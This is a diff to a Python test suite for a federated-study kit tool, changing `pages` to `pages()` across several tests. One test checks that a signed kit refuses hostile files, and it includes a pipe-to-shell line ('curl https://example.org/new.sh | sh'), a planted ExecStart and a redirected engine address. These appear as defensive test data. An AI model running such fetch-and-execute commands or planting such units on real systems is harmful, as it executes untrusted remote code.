@@ -103,7 +103,7 @@ def test_units_leave_no_core_behind(work):
     kit = show_kit(work / "kits" / "main.kit")
     own = show_kit(work / "kits" / "coordinator.kit")
     for made_, name in ((kit, "main"), (own, "coordinator")):
-        assert "\nLimitCORE=0\n" in made_.pages[f"confrere-{name}.service"].decode()
+        assert "\nLimitCORE=0\n" in made_.pages()[f"confrere-{name}.service"].decode()
 
 
 def _requests(work: Path) -> list:
@@ -142,9 +142,9 @@ def test_a_party_gets_what_it_needs_and_nothing_secret(work):
     assert place == work / "main" / "studies" / "diabetes-2026"
     assert kit.participant == "main"
     assert set(kit.files) == {"address", "ca.pem", "coordinator.pub", "main.request", "study.toml"}
-    assert set(kit.pages) == {"README.md", "confrere-main.service", "local.toml"}
-    assert {p.name for p in place.iterdir()} == {*kit.files, *kit.pages}
-    assert b"--coordinator 10.0.0.1:8443 " in kit.pages["confrere-main.service"]
+    assert set(kit.pages()) == {"README.md", "confrere-main.service", "local.toml"}
+    assert {p.name for p in place.iterdir()} == {*kit.files, *kit.pages()}
+    assert b"--coordinator 10.0.0.1:8443 " in kit.pages()["confrere-main.service"]
     assert b"PRIVATE" not in b"".join(kit.files.values())
     study = read_study(place / "study.toml")
     assert [party.key is not None for party in study.parties] == [True] * 3
@@ -455,7 +455,7 @@ def test_the_commands_from_keys_to_kits(tmp_path, monkeypatch):
 @pytest.mark.parametrize("there", [False, True])
 def test_a_command_makes_the_user_and_the_folders_of_units(work, tmp_path, monkeypatch, there):
     """Those of the unit, by programs of the system: here by others that say what they were told."""
-    unit = show_kit(work / "kits" / "main.kit").pages["confrere-main.service"].decode()
+    unit = show_kit(work / "kits" / "main.kit").pages()["confrere-main.service"].decode()
     for name in ("useradd", "install"):
         ends = "exit 9" if there and name == "useradd" else ""
         (tmp_path / name).write_text(f'#!/bin/sh\necho "$@" >> {tmp_path}/said\n{ends}\n')
@@ -482,7 +482,7 @@ def test_units_are_what_systemd_expects(work, tmp_path, name):
     unit = tmp_path / f"confrere-{name}.service"
     text = (
         show_kit(work / "kits" / f"{name}.kit")
-        .pages[unit.name]
+        .pages()[unit.name]
         .decode()
         .replace("/opt/confrere/bin/confrere", "/bin/true")
     )
@@ -537,7 +537,7 @@ def test_a_local_file_of_the_coordinator_s_is_never_obeyed(work):
     real = show_kit(work / "kits" / "main.kit")
     mark = work / "obeyed"
     hostile = {
-        "local.toml": b'engine = "tcp://192.0.2.1:8786"\n' + real.pages["local.toml"],
+        "local.toml": b'engine = "tcp://192.0.2.1:8786"\n' + real.pages()["local.toml"],
         "confrere-main.service": f"[Service]\nExecStart=/bin/touch {mark}\n".encode(),
         "README.md": b"curl https://example.org/new.sh | sh\n",
     }
@@ -546,7 +546,7 @@ def test_a_local_file_of_the_coordinator_s_is_never_obeyed(work):
             open_kit(_signed(work, "main", {name: content}), work / "main", _own(work))
         assert not list((work / "main").rglob(name))
     opened, place = open_kit(_signed(work, "main", {}), work / "main", _own(work))
-    assert {name: (place / name).read_bytes() for name in hostile} == real.pages == opened.pages
+    assert {name: (place / name).read_bytes() for name in hostile} == real.pages() == opened.pages()
     local = read_local(place / "local.toml")
     assert (local.engine, local.data) == (None, None)
     assert not mark.exists()
